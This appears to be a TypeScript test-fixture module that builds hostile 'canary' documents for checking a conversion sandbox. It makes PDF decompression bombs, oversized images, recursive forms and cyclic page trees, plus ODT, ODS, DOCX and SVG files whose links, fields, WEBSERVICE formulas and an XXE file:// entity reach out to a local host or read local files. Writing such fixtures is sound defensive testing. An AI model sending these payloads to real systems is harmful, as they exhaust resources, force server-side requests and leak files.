/** Documents that were made to harm whoever opens them, each by code so that nothing in them is hidden. */
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { packZip, targetsOf } from '../../server/conversion/box/canary-documents.ts';

const MIB = 1024 * 1024;

/** `mebibytes` of zeros as a zlib stream (RFC 1950), without holding them: one block, again and again. */
export function flateOfZeros(mebibytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(MIB), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const sum = Buffer.alloc(4);
  // Adler-32 of zeros: the low half stays 1, the high half counts the bytes.
  sum.writeUInt16BE((mebibytes * MIB) % 65_521, 0);
  sum.writeUInt16BE(1, 2);
  const blocks = Array.from({ length: mebibytes }, () => block);
  return Buffer.concat([Buffer.from('789c', 'hex'), ...blocks, Buffer.from('0300', 'hex'), sum]);
}

/** A page whose content is gibibytes of blanks, compressed twice: kilobytes on the way; or once, which a rewriting keeps. */
export function flateBomb(filters: 1 | 2, mebibytes = 4_096): Buffer {
  const packed = filters === 1 ? flateOfZeros(mebibytes) : deflateSync(flateOfZeros(mebibytes), { level: 9 });
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>',
    [`<</Length ${packed.length}/Filter[${'/FlateDecode'.repeat(filters)}]>>`, packed],
  ]);
}

/** A page with one picture of so many pixels each way, of one color. */
export function giantPicture(filters: 1 | 2, side = 60_000): Buffer {
  const pixels = flateOfZeros(Math.ceil((side * side) / MIB));
  const packed = filters === 1 ? pixels : deflateSync(pixels, { level: 9 });
  const draw = 'q 500 0 0 500 40 200 cm /I Do Q';
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>',
    [`<</Length ${draw.length}>>`, Buffer.from(draw)],
    [
      `<</Type/XObject/Subtype/Image/Width ${side}/Height ${side}/ColorSpace/DeviceGray/BitsPerComponent 8` +
        `/Filter[${'/FlateDecode'.repeat(filters)}]/Length ${packed.length}>>`,
      packed,
    ],
  ]);
}

/** A page that draws a form that draws a form twice, and so on: two to the power of `depth` lines. */
export function formsInForms(depth: number): Buffer {
  const form = (at: number): readonly [string, Buffer] => {
    const content = at === depth ? '0 0 m 500 500 l S' : '/F Do /F Do';
    const next = at === depth ? '' : `/Resources<</XObject<</F ${5 + at} 0 R>>>>`;
    const head = `<</Type/XObject/Subtype/Form/BBox[0 0 595 842]${next}/Length ${content.length}>>`;
    return [head, Buffer.from(content)];
  };
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>',
    ...Array.from({ length: depth + 1 }, (_, at) => form(at)),
  ]);
}

/** A tree of pages whose branches are each other. */
export function pagesInCircles(): Buffer {
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>',
    '<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 2>>',
  ]);
}

type PdfObject = string | readonly [dictionary: string, stream: Buffer];

function pdfOf(objects: readonly PdfObject[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  const add = (bytes: Buffer) => {
    parts.push(bytes);
    length += bytes.length;
  };
  for (const [at, object] of objects.entries()) {
    offsets.push(length);
    const [dictionary, stream] = typeof object === 'string' ? [object, undefined] : object;
    add(Buffer.from(`${at + 1} 0 obj\n${dictionary}\n`));
    if (stream !== undefined) add(Buffer.concat([Buffer.from('stream\n'), stream, Buffer.from('\nendstream\n')]));
    add(Buffer.from('endobj\n'));
  }
  const start = length;
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  add(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<</Size ${size}/Root 1 0 R>>\n`));
  add(Buffer.from(`startxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const xml = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

const ODF =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
  'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" ' +
  'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" ' +
  'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" ' +
  'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.2"';

function packOdf(kind: 'text' | 'spreadsheet', body: string): Buffer {
  const type = `application/vnd.oasis.opendocument.${kind}`;
  const manifest = 'urn:oasis:names:tc:opendocument:xmlns:manifest:1.0';
  const entry = (path: string, media: string) =>
    `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="${media}"/>`;
  return packZip([
    ['mimetype', type],
    [
      'META-INF/manifest.xml',
      `<?xml version="1.0"?><manifest:manifest xmlns:manifest="${manifest}" manifest:version="1.2">` +
        `${entry('/', type)}${entry('content.xml', 'text/xml')}</manifest:manifest>`,
    ],
    [
      'content.xml',
      `<?xml version="1.0"?><office:document-content ${ODF}><office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>`,
    ],
  ]);
}

const LINK = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"';

/** An ODT whose objects, pictures, frames and sections lie elsewhere. */
export function linkedText(port: number, picture: string): Buffer {
  const links = targetsOf(port, picture).map((target, at) => {
    const href = `xlink:href="${xml(target)}" ${LINK}`;
    const frame = (name: string, inner: string) =>
      `<text:p><draw:frame draw:name="${name}${at}" text:anchor-type="as-char" svg:width="2cm" svg:height="2cm">${inner}</draw:frame></text:p>`;
    return [
      frame('object', `<draw:object ${href}/>`),
      frame('ole', `<draw:object-ole ${href}/>`),
      frame('picture', `<draw:image ${href}/>`),
      frame('frame', `<draw:floating-frame ${href}/>`),
      `<text:section text:name="s${at}"><text:section-source ${href}/><text:p>section</text:p></text:section>`,
    ].join('');
  });
  return packOdf('text', `<text:p>canary</text:p>${links.join('')}`);
}

/** An ODS whose cells ask the network, and whose table is one of elsewhere. */
export function askingTable(port: number, picture: string): Buffer {
  const rows = targetsOf(port, picture).map((target) => {
    const formula = xml(`of:=WEBSERVICE("${target}")`);
    return `<table:table-row><table:table-cell table:formula="${formula}" office:value-type="string"/></table:table-row>`;
  });
  const source = `<table:table-source xlink:href="http://127.0.0.1:${port}/t.ods" ${LINK} table:table-name="a"/>`;
  return packOdf(
    'spreadsheet',
    `<table:table table:name="one">${rows.join('')}</table:table><table:table table:name="two">${source}</table:table>`,
  );
}

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';

/** A DOCX with linked objects, parts of other documents, and fields that fetch. */
export function linkedObjects(port: number, picture: string): Buffer {
  const targets = targetsOf(port, picture);
  const kinds = ['oleObject', 'aFChunk', 'subDocument', 'image', 'frame'] as const;
  const links = targets.flatMap((target, at) =>
    kinds.map(
      (kind) =>
        `<Relationship Id="${kind}${at}" Type="${OFFICE}/${kind}" Target="${xml(target)}" TargetMode="External"/>`,
    ),
  );
  const body = targets.map((target, at) => {
    const field = (name: string) =>
      `<w:p><w:fldSimple w:instr="${xml(`${name} "${target.replaceAll('\\', '\\\\')}"`)}"><w:r><w:t>f</w:t></w:r></w:fldSimple></w:p>`;
    return (
      `<w:p><w:r><w:object><v:shape id="s${at}" style="width:90pt;height:90pt"><v:imagedata r:id="image${at}" r:href="image${at}"/></v:shape>` +
      `<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="s${at}" DrawAspect="Content" r:id="oleObject${at}" UpdateMode="Always"/></w:object></w:r></w:p>` +
      `${field('INCLUDEPICTURE')}${field('INCLUDETEXT')}${field('LINK Excel.Sheet.12')}` +
      `<w:altChunk r:id="aFChunk${at}"/><w:p><w:subDoc r:id="subDocument${at}"/></w:p>`
    );
  });
  const names =
    `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}" ` +
    'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"';
  const relationships = (items: readonly string[]) =>
    `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${items.join('')}</Relationships>`;
  const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  return packZip([
    [
      '[Content_Types].xml',
      `<?xml version="1.0"?><Types xmlns="${PACKAGE}/content-types">` +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        `<Override PartName="/word/document.xml" ContentType="${word}"/></Types>`,
    ],
    [
      '_rels/.rels',
      relationships([`<Relationship Id="d" Type="${OFFICE}/officeDocument" Target="word/document.xml"/>`]),
    ],
    [
      'word/document.xml',
      `<?xml version="1.0"?><w:document ${names}><w:body><w:p><w:r><w:t>canary</w:t></w:r></w:p>${body.join('')}</w:body></w:document>`,
    ],
    ['word/_rels/document.xml.rels', relationships(links)],
  ]);
}

/** A drawing that asks by every element of SVG that can ask. */
export function askingDrawing(port: number, picture: string): Buffer {
  const targets = targetsOf(port, picture);
  const asks = targets.map((target) => {
    const href = xml(target);
    return (
      `<image href="${href}" width="40" height="40"/><image xlink:href="${href}" width="40" height="40"/><use href="${href}#a"/>` +
      `<rect width="40" height="40" fill="url('${href}#p')"/><feImage href="${href}"/>` +
      `<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${href}"/></foreignObject>`
    );
  });
  const imports = targets.map((target) => `@import url("${target.replaceAll('\\', '\\\\')}");`).join('');
  const first = xml(targets[0] ?? '');
  return Buffer.from(
    `<?xml version="1.0"?><?xml-stylesheet href="${first}" type="text/css"?>` +
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${picture}"><!ENTITY y SYSTEM "${first}">]>` +
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">' +
      `<style>${imports}</style><text y="20">canary &x;&y;</text>${asks.join('')}</svg>`,
  );
}
